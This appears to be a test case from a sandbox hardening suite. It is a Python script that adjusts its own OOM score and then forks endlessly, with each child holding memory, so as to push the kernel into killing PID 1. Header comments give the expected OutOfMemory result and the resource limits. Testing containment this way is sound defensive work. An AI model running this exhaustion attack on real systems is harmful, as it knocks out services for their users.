# Tries: to have the kernel kill PID 1 for memory: every process small, and none more to be killed
# Ends: OutOfMemory
# Limits: memory=64Mi disk=10Mi timeoutSeconds=20
import os
import signal

from attack import write

for score in range(0, 1000, 5):
    try:
        write("/proc/self/oom_score_adj", str(score))
        break
    except OSError:
        continue
while True:
    try:
        if os.fork() == 0:
            keep = bytearray(1 << 20)
            for i in range(0, len(keep), 4096):
                keep[i] = 1
            signal.pause()
    except OSError:
        signal.pause()
